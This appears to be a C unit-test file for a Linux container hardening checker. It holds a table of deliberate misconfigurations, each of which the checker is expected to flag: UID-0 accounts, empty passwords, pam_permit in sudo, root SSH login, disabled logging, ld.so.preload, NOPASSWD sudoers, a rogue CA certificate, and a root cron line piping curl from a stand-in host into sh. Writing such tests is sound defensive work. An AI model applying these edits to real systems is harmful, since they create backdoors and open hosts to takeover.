/* harden: every control of pa-dss-3.2 that holds in a container notices what it is there for. */
#include "harden-rows.h"

static const struct row rows[] = {
    {"ACC-01", EDIT, "etc/passwd", "games:x:5:60", "games:x:0:60", NOT_FIXED},
    {"ACC-01", EDIT, "etc/passwd", "games:x:5:60", "games:x:5:0", NOT_FIXED},
    {"ACC-01b", EDIT, "etc/group", "games:x:60", "games:x:60:\ngames2:x:60", NOT_FIXED},
    {"ACC-02", EDIT, "etc/group", "shadow:x:42:", "shadow:x:42:rti", NOT_FIXED},
    {"ACC-02", EDIT, "etc/passwd", "rti:x:1500:1500", "rti:x:1500:42", NOT_FIXED},
    {"ACC-03", EDIT, "etc/passwd", "rti:x:", "rti::", FIXED},
    {"ACC-03", EDIT, "etc/shadow", "rti:!:", "rti::", FIXED},
    {"ACC-04 SEC-05", EDIT, "etc/shadow", "games:*:", "games:abJnggxhB/yWI:", FIXED},
    {"ACC-05", APPEND, "etc/login.defs", "ENCRYPT_METHOD MD5\n", NULL, FIXED},
    {"ACC-06", EDIT, "etc/passwd", "/run/sshd:/usr/sbin/nologin", "/run/sshd:/bin/sh", FIXED},
    {"ACC-07", APPEND, "etc/shells", "/usr/sbin/nologin\n", NULL, FIXED},
    {"ACC-08", APPEND, "etc/login.defs", "PASS_MAX_DAYS 365\n", NULL, FIXED},
    {"ACC-08", EDIT, "etc/shadow", "rti:!:20000:1:90:", "rti:!:20000:1:99999:", FIXED},
    {"ACC-09", EDIT, "etc/shadow", "rti:!:20000:1:90:", "rti:!:20000:0:90:", FIXED},
    {"ACC-10", APPEND, "etc/login.defs", "PASS_WARN_AGE 1\n", NULL, FIXED},
    {"ACC-11", APPEND, "etc/default/useradd", "INACTIVE=-1\n", NULL, FIXED},
    {"ACC-12", EDIT, "etc/shadow", "rti:!:20000:", "rti:!:40000:", FIXED},
    {"ACC-13", APPEND, "etc/login.defs", "UMASK 022\n", NULL, FIXED},
    {"ACC-13", WRITE, "etc/profile.d/zz.sh", "umask 0022\n", NULL, FIXED},
    {"ACC-13", EDIT, "etc/bash.bashrc", "umask 027", "", FIXED},
    {"ACC-14", WRITE, "etc/profile.d/zz.sh", "export TMOUT=0\n", NULL, FIXED},
    {"ACC-14", EDIT, "etc/profile.d/60-posmedia-idle.sh", "900", "9000", FIXED},
    {"ACC-15", EDIT, "etc/passwd", "1501:1500::/home/rti:/usr/sbin/nologin",
     "1501:1500::/nonexistent:/bin/sh", FIXED},
    {"ACC-16", CHMOD, "home/rti", "0755", NULL, FIXED},
    {"ACC-16", CHOWN, "home/rti", "1", NULL, FIXED},
    {"ACC-16", CHMOD, "home/rti/.profile", "0644", NULL, FIXED},
    {"ACC-18", APPEND, "etc/environment", "PATH=\"/usr/bin:.:/bin\"\n", NULL, NOT_FIXED},
    {"ACC-18", APPEND, "root/.profile", "PATH=/usr/bin::/bin\n", NULL, NOT_FIXED},

    {"PAM-01", EDIT, "etc/security/pwquality.conf", "minlen = 14", "minlen = 6", FIXED},
    {"PAM-01", EDIT, "etc/pam.d/common-password", "retry=3", "retry=3 minlen=6", FIXED},
    {"PAM-02", APPEND, "etc/security/pwquality.conf", "minclass = 1\n", NULL, FIXED},
    {"PAM-02", EDIT, "etc/pam.d/common-password", "retry=3", "retry=3 dcredit=0", FIXED},
    {"PAM-03", APPEND, "etc/security/pwquality.conf", "maxrepeat = 0\n", NULL, FIXED},
    {"PAM-04", APPEND, "etc/security/pwquality.conf", "dictcheck = 0\n", NULL, FIXED},
    {"PAM-04", REMOVE, "var/cache/cracklib/cracklib_dict.pwd", NULL, NULL, NOT_FIXED},
    {"PAM-05", APPEND, "etc/security/pwquality.conf", "enforcing = 0\n", NULL, FIXED},
    {"PAM-05", EDIT, "etc/pam.d/common-password", "requisite\tpam_pwquality",
     "optional\tpam_pwquality", FIXED},
    {"PAM-06", EDIT, "etc/pam.d/common-auth", "auth\trequired\tpam_faillock.so preauth\n", "",
     FIXED},
    {"PAM-06", EDIT, "etc/pam.d/common-auth", "[default=die]\tpam_faillock",
     "optional\tpam_faillock", FIXED},
    {"PAM-06", EDIT, "etc/pam.d/common-auth", "auth\tsufficient\tpam_faillock.so authsucc\n", "",
     FIXED},
    {"PAM-06", EDIT, "etc/pam.d/sshd", "@include common-account", "account required pam_unix.so",
     NOT_FIXED},
    {"PAM-07", APPEND, "etc/security/faillock.conf", "deny = 0\n", NULL, FIXED},
    {"PAM-07", EDIT, "etc/pam.d/common-auth", "authfail", "authfail deny=50", FIXED},
    {"PAM-08", APPEND, "etc/security/faillock.conf", "unlock_time = 60\n", NULL, FIXED},
    {"PAM-09", EDIT, "etc/security/faillock.conf", "even_deny_root\n", "", FIXED},
    {"PAM-10", EDIT, "etc/pam.d/common-password", "remember=24", "remember=2", FIXED},
    {"PAM-11", EDIT, "etc/pam.d/common-auth", "pam_unix.so", "pam_unix.so nullok", FIXED},
    {"PAM-11", EDIT, "etc/pam.d/common-password", " yescrypt", " md5", FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "@include common-auth",
     "auth sufficient pam_permit.so\n@include common-auth", NOT_FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "@include common-auth",
     "-auth sufficient pam_permit.so\n@include common-auth", NOT_FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "@include common-auth",
     "auth [ success = 1 default=ignore] pam_permit.so\n@include common-auth", NOT_FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "@include common-auth",
     "auth [default=done] pam_permit.so\n@include common-auth", NOT_FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "@include common-auth",
     "auth [success=ok default=2] pam_rootok.so\n@include common-auth", NOT_FIXED},
    {"PAM-12", EDIT, "etc/pam.d/sudo", "@include common-auth",
     "Auth Sufficient \\\n  pam_permit.so\n@include common-auth", NOT_FIXED},
    {"PAM-12", APPEND, "etc/pam.d/login", "session required pam_nosuch.so\n", NULL, NOT_FIXED},
    {"PAM-13", EDIT, "etc/pam.d/su", " group=sugroup", "", FIXED},
    {"PAM-13", EDIT, "etc/group", "sugroup:x:986:", "sugroup:x:986:rti", FIXED},
    {"PAM-13", EDIT, "etc/pam.d/su", " group=sugroup", " group=sugroup trust", FIXED},

    {"SSH-01", WRITE, "etc/ssh/sshd_config.d/00-a.conf", "PermitRootLogin yes\n", NULL, FIXED},
    {"SSH-01", APPEND, "etc/ssh/sshd_config", "Match Address 10.0.0.0/8\n  PermitRootLogin yes\n",
     NULL, FIXED},
    {"SSH-02", APPEND, "etc/ssh/sshd_config", "Match all\nPermitEmptyPasswords yes\n", NULL, FIXED},
    {"SSH-02", EDIT, "etc/ssh/sshd_config", "Include", "permitemptypasswords=yes\nInclude", FIXED},
    {"SSH-03", APPEND, "etc/ssh/sshd_config", "Match User rti\nHostbasedAuthentication yes\n", NULL,
     FIXED},
    {"SSH-04", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "PermitUserEnvironment no",
     "PermitUserEnvironment LD_*", FIXED},
    {"SSH-05", EDIT, "etc/ssh/sshd_config", "UsePAM yes", "UsePAM no", FIXED},
    {"SSH-06", EDIT, "etc/ssh/sshd_config", "Include", "Include /etc/ssh/x/*.conf\nInclude", FIXED},
    {"SSH-07", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "LoginGraceTime 60",
     "LoginGraceTime 2m", FIXED},
    {"SSH-08", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "ClientAliveInterval 300",
     "ClientAliveInterval 0", FIXED},
    {"SSH-09", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "aes128-ctr", "aes128-cbc", FIXED},
    {"SSH-10", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "MACs ", "MACs +hmac-md5,", FIXED},
    {"SSH-11", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "KexAlgorithms ",
     "KexAlgorithms diffie-hellman-group1-sha1,", FIXED},
    {"SSH-12", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "VERBOSE", "QUIET", FIXED},
    {"SSH-13", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "Banner /etc/issue.net",
     "Banner none", FIXED},
    {"SSH-15", EDIT, "etc/ssh/sshd_config.d/00-posmedia.conf", "GSSAPIAuthentication no",
     "GSSAPIAuthentication yes", FIXED},
    {"SSH-16", CHMOD, "etc/ssh/sshd_config", "0644", NULL, FIXED},
    {"SSH-18", WRITE, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA vendor\n", NULL, FIXED},
    {"SSH-18", WRITE, "home/rti/.rhosts", "+ +\n", NULL, FIXED},

    {"LOG-01", REMOVE, "etc/systemd/system/multi-user.target.wants/rsyslog.service", NULL, NULL,
     FIXED},
    {"LOG-01", LINK, "etc/systemd/system/rsyslog.service", "/dev/null", NULL, FIXED},
    {"LOG-02", WRITE, "etc/rsyslog.d/20.conf", "$FileCreateMode 0644\n", NULL, FIXED},
    {"LOG-02", CHMOD, "var/log/auth.log", "0644", NULL, FIXED},
    {"LOG-02", EDIT, "etc/logrotate.d/wtmp", "monthly", "monthly\n    create 0664 root utmp",
     FIXED},
    {"LOG-04", EDIT, "etc/rsyslog.conf", "auth,authpriv.*\t", "#", FIXED},
    {"LOG-04", WRITE, "etc/rsyslog.d/01.conf", "authpriv.* ~\n", NULL, FIXED},
    {"LOG-05", WRITE, "etc/rsyslog.d/net.conf", "module(load=\"imudp\")\n", NULL, FIXED},
    {"LOG-06", WRITE, "etc/logrotate.d/pos", "/var/log/pos.log {\n  daily\n  rotate 7\n}\n", NULL,
     FIXED},
    {"LOG-06", EDIT, "etc/logrotate.d/wtmp", "monthly", "monthly\n    maxage 30", FIXED},
    {"LOG-06", EDIT, "etc/logrotate.conf", "create", "maxsize 1M", FIXED},
    {"LOG-06b", REMOVE, "etc/systemd/system/multi-user.target.wants/logrotate.timer", NULL, NULL,
     FIXED},
    {"LOG-07", WRITE, "etc/systemd/journald.conf.d/99.conf", "[Journal]\nStorage=none\n", NULL,
     FIXED},

    {"FIL-01", CHMOD, "etc/shadow", "0644", NULL, FIXED},
    {"FIL-01", CHOWN, "etc/passwd", "1", NULL, FIXED},
    {"FIL-02", CHMOD, "etc/security/opasswd", "0640", NULL, FIXED},
    {"FIL-03", CHMOD, "opt/tool", "0777", NULL, FIXED},
    {"FIL-04", MAKEDIR, "var/spool/open", "0777", NULL, FIXED},
    {"FIL-05", CHOWN, "opt/tool", "4711", NULL, FIXED},
    {"FIL-06", CHMOD, "opt/tool", "4755", NULL, FIXED},
    {"FIL-06", CHMOD, "opt/tool", "2755", NULL, FIXED},
    {"FIL-07", CAP, "opt/tool", NULL, NULL, FIXED},
    {"FIL-08", CHMOD, "usr/local/lib", "0775", NULL, FIXED},
    {"FIL-08", CHMOD, "usr/local/bin/tool", "0775", NULL, FIXED},
    {"FIL-08", CHOWN, "usr/sbin/sshd", "1", NULL, FIXED},
    {"FIL-12", WRITE, "etc/ld.so.preload", "/tmp/x.so\n", NULL, FIXED},
    {"FIL-12", WRITE, "etc/profile.d/zz.sh", "export LD_PRELOAD=/tmp/x.so\n", NULL, FIXED},

    {"TIM-04", RELINK, "etc/localtime", "/etc/os-release", NULL, FIXED},
    {"TIM-04", WRITE, "etc/adjtime", "0.0 0 0.0\n0\nLOCAL\n", NULL, FIXED},
    {"FIL-10", FIFO, "opt/pipe", NULL, NULL, FIXED},
    {"FIL-11", LINK, "opt/up", "../../../etc/shadow", NULL, NOT_FIXED},
    {"FIL-11", LINK, "opt/work", "/build-host/project/tool", NULL, NOT_FIXED},
    {"FIL-13", EDIT, "usr/lib/systemd/system/rsyslog.service", "[Unit]", "[Unit]\n#", NOT_FIXED},
    {"FIL-13", WRITE, "usr/lib/systemd/system/back.door", "x", NULL, NOT_FIXED},
    {"FIL-13", LINK, "usr/lib/back", "/opt/tool", NULL, NOT_FIXED},
    {"FIL-13", REMOVE, "usr/lib/systemd/system/rpcbind.service", NULL, NULL, NOT_FIXED},

    {"PKG-07", EDIT, "etc/os-release", "\"12\"", "\"11\"", NOT_FIXED},
    {"PKG-01", EDIT, "var/lib/dpkg/status", "deinstall ok config-files", "install ok installed",
     NOT_FIXED},
    {"PKG-02", APPEND, "var/lib/dpkg/status", "\nPackage: vsftpd\nStatus: install ok installed\n",
     NULL, NOT_FIXED},
    {"PKG-03", EDIT, "var/lib/dpkg/status", "Package: logrotate", "Package: gone", NOT_FIXED},
    {"PKG-04", APPEND, "var/lib/dpkg/status", "\nPackage: gdb\nStatus: install ok installed\n",
     NULL, NOT_FIXED},
    {"PKG-05", WRITE, "etc/apt/sources.list", "deb [trusted=yes] file:/srv x main\n", NULL, FIXED},
    {"PKG-05", WRITE, "etc/apt/sources.list.d/a.sources", "Types: deb\nTrusted: yes\n", NULL,
     FIXED},
    {"PKG-05", WRITE, "etc/apt/apt.conf.d/99x", "APT::Get::AllowUnauthenticated \"true\";\n", NULL,
     FIXED},

    {"SVC-02", REMOVE, "etc/systemd/system/ctrl-alt-del.target", NULL, NULL, FIXED},
    {"SVC-04", LINK, "etc/systemd/system/multi-user.target.wants/rpcbind.service",
     "/usr/lib/systemd/system/rpcbind.service", NULL, FIXED},
    {"NET-01", EDIT, "etc/nftables.conf", "policy drop", "policy accept", FIXED},
    {"NET-01", EDIT, "etc/nftables.conf", "tcp dport 22 accept", "tcp dport 23 accept", FIXED},
    {"NET-01", APPEND, "etc/nftables.conf", "add rule inet posmedia input accept\n", NULL, FIXED},
    {"NET-10", WRITE, "etc/resolv.conf", "nameserver 192.0.2.1\n", NULL, FIXED},
    {"CRY-01", EDIT, "etc/ssl/openssl.cnf", "TLSv1.2", "TLSv1", FIXED},
    {"CRY-02", EDIT, "etc/gnutls/config", "disabled-version = tls1.1\n", "", FIXED},
    {"CRY-02b", EDIT, "etc/apache2/mods-enabled/ssl.conf", "-TLSv1.1", "", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/apache2/mods-enabled/ssl.conf", "!3DES", "3DES", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/java-17-openjdk/security/java.security", " TLSv1.1,", "", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/postfix/main.cf", ">=TLSv1.2", ">=TLSv1", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/postfix/main.cf", "!TLSv1.1", "TLSv1.1", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/postfix/main.cf", " !TLSv1, !TLSv1.1", "", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/postfix/main.cf", "!SSLv2, !SSLv3, !TLSv1, !TLSv1.1",
     "!SSLv2:!SSLv3,!TLSv1", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/postfix/main.cf", "!SSLv2, ", "TLSv1.3\n# note\n  TLSv1.1 ", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/postfix/main.cf", ">=TLSv1.2", "<=TLSv1.2", NOT_FIXED},
    {"CRY-02b", EDIT, "etc/java-17-openjdk/security/java.security",
     "\njdk.tls.disabledAlgorithms=SSLv3, TLSv1,", "\n jdk.tls.disabledAlgorithms : SSLv3,",
     NOT_FIXED},
    {"CRY-02b", EDIT, "etc/java-17-openjdk/security/java.security", "TLSv1, \\\n", "TLSv1, \\ \n",
     NOT_FIXED},
    {"CRY-02b", WRITE, "etc/nginx/nginx.conf", "server { listen 1; ssl_protocols TLSv1; }\n", NULL,
     NOT_FIXED},
    {"CRY-02b", WRITE, "etc/nginx/nginx.conf", "ssl_protocols\n  TLSv1.2 # x;\n  'TLSv1.1';\n",
     NULL, NOT_FIXED},
    {"CRY-02b", WRITE, "etc/apache2/conf-enabled/x.conf", "SSLProtocol TLSv1.2 \\\n +TLSv1.1\n",
     NULL, NOT_FIXED},
    {"CRY-02b", APPEND, "etc/cups/cupsd.conf", "SSLOptions AllowRC4\n", NULL, NOT_FIXED},
    {"CRY-02b", WRITE, "etc/nginx/nginx.conf", "  ssl_protocols TLSv1 TLSv1.2;\n", NULL, NOT_FIXED},
    {"CRY-03", APPEND, "etc/ssl/certs/ca-certificates.crt",
     "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n", NULL, NOT_FIXED},
    {"CRY-03", APPEND, "etc/ssl/certs/ca-certificates.crt",
     "-----BEGIN X509 CERTIFICATE-----\nMIIC\n-----END X509 CERTIFICATE-----\n", NULL, NOT_FIXED},
    {"CRY-03", LINK, "etc/ssl/certs/d.pem", "/usr/share/ca-certificates/../../../opt/evil.crt",
     NULL, NOT_FIXED},
    {"CRY-03", WRITE, "usr/local/share/ca-certificates/mitm.crt",
     "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n", NULL, NOT_FIXED},
    {"CRY-04", EDIT, "etc/crypto-policies/config", "\nDEFAULT", "\nDEFAULT:SHA1", FIXED},
    {"RMT-03", APPEND, "var/lib/dpkg/status", "\nPackage: x11vnc\nStatus: install ok installed\n",
     NULL, NOT_FIXED},
    {"RMT-03", WRITE, "etc/systemd/system/getty@tty1.service.d/x.conf",
     "[Service]\nExecStart=-/sbin/agetty --autologin rti %I\n", NULL, FIXED},
    {"OCI-04", CHMOD, "usr/bin/chsh", "4755", NULL, FIXED},
    {"OCI-05", EDIT, "usr/lib/posmedia/run.json", "\"drop\": [\"ALL\"]", "\"drop\": []", FIXED},
    {"OCI-06", APPEND, "var/lib/dpkg/status",
     "\nPackage: dropbear-bin\nStatus: install ok installed\n", NULL, NOT_FIXED},
    {"SEC-07", WRITE, "etc/swanctl/x509/site.pem", "x", NULL, FIXED},
    {"SEC-08", EDIT, "etc/passwd", "tester:/usr/sbin/nologin", "tester:/bin/sh", FIXED},
    {"SEC-08", WRITE, "var/www/html/index.html", "It works!", NULL, FIXED},
    {"BAN-01", WRITE, "etc/issue", "authorized users of \\r only\n", NULL, FIXED},
    {"BAN-01", WRITE, "etc/motd", "authorized users of this Debian only\n", NULL, FIXED},
    {"CRN-01", WRITE, "etc/cron.deny", "", NULL, FIXED},
    {"CRN-01", APPEND, "etc/cron.allow", "rti\n", NULL, FIXED},
    {"CRN-02", CHMOD, "etc/cron.d", "0755", NULL, FIXED},
    {"CRN-03", WRITE, "etc/cron.d/up", "0 1 * * * root curl http://x/i | sh\n", NULL, NOT_FIXED},
    {"KRN-02", WRITE, "etc/security/limits.d/99.conf", "rti - core unlimited\n", NULL, FIXED},
    {"KRN-02", WRITE, "etc/systemd/coredump.conf.d/99.conf", "[Coredump]\nStorage=external\n", NULL,
     FIXED},
    {"SUD-01", WRITE, "etc/sudoers.d/zz", "Defaults !use_pty\n", NULL, FIXED},
    {"SUD-02", WRITE, "etc/sudoers.d/zz", "rti ALL=(ALL) \\\n NOPASSWD: /usr/bin/find\n", NULL,
     FIXED},
    {"SUD-02", WRITE, "etc/sudoers.d/zz", "rti ALL=NOPASSWD : ALL\n", NULL, FIXED},
    {"SUD-02", WRITE, "etc/sudoers.d/zz", "Defaults:rti env_keep+=\"A,B\", !authenticate\n", NULL,
     FIXED},
    {"SUD-02", WRITE, "etc/sudoers.d/zz", "Defaults timestamp_timeout=-1\n", NULL, FIXED},
    {"SUD-03", WRITE, "etc/sudoers.d/zz", "ALL ALL=(ALL) ALL\n", NULL, FIXED},
    {"SVC-05", APPEND, "etc/postfix/main.cf", "inet_interfaces = all\n", NULL, FIXED},
    {"SVC-05b", EDIT, "etc/exim4/update-exim4.conf.conf", "127.0.0.1 ; ::1", "", FIXED},
    {"RMT-02", LINK, "etc/systemd/system/multi-user.target.requires/vendor-access.service",
     "/usr/lib/systemd/system/vendor-access.service", NULL, FIXED},
    {"SEC-01", WRITE, "etc/ssh/ssh_host_rsa_key", "x", NULL, FIXED},
    {"SEC-02", WRITE, "etc/machine-id", "0123456789abcdef0123456789abcdef\n", NULL, FIXED},
    {"SEC-02", WRITE, "var/lib/systemd/random-seed", "x", NULL, FIXED},
    {"SEC-03", WRITE, "usr/local/lib/vendor.conf",
     "key: |\n  -----BEGIN RSA PRIVATE KEY-----\n  MIIEpAIBAAKCAQEAx0000000000000000000000000\n",
     NULL, NOT_FIXED},
    {"SEC-04", WRITE, "root/.netrc", "machine x login y password z\n", NULL, NOT_FIXED},
    {"SEC-05", WRITE, "etc/security/opasswd", "rti:1500:1:$6$a$b\n", NULL, NOT_FIXED},
    {"SEC-06", WRITE, "root/.bash_history", "secret\n", NULL, FIXED},
    {"SEC-06", WRITE, "var/tmp/build.log", "x", NULL, FIXED},
};

/* Every control that applies to an image has a row above; programs are for a tree that has them
 * (tests/system/hardened.bats). */
static void every_control_is_mutated(void **state)
{
	struct rootfs t = rootfs_make();
	struct harden_report r;

	(void)state;
	debian_make(&t);
	r = check(bench->profile, &t, &bench->made.r);
	for (size_t i = 0; i < r.n; i++)
		/* harden-image.c has the waivers */
		if (r.v[i].status != HARDEN_NOT_APPLICABLE && r.v[i].status != HARDEN_NOT_RUN &&
		    !has_row(r.v[i].id) && strcmp(r.v[i].id, "BLD-03") != 0)
			fail_msg("no row breaks %s", r.v[i].id);
	harden_report_release(&r);
	rootfs_drop(&t);
}

/* A byte of 0 ends a text, and no file: what reads certificates goes on behind it. */
static void a_bundle_does_not_end_at_a_zero(void **state)
{
	static const char tail[] =
	    "\0-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n";
	struct rootfs t = rootfs_make();
	struct err e = ERR_INIT;
	int fd;

	(void)state;
	debian_make(&t);
	harden(&t);
	fd = openat(t.fd, "etc/ssl/certs/ca-certificates.crt", O_WRONLY | O_APPEND | O_CLOEXEC);
	assert_true(fd >= 0);
	assert_int_equal(fs_write_all(fd, tail, sizeof(tail) - 1, &e), 0);
	(void)close(fd);
	expect_failed(&t, "CRY-03");
	rootfs_drop(&t);
}

int main(void)
{
	static const struct CMUnitTest more[] = {
	    cmocka_unit_test(every_control_is_mutated),
	    cmocka_unit_test(a_bundle_does_not_end_at_a_zero),
	};
	static struct bench b = {
	    .name = "harden-padss",
	    .rows = rows,
	    .n = sizeof(rows) / sizeof(rows[0]),
	    .make = debian_make,
	    .target = "container",
	};

	return bench_run(&b, more, 2);
}
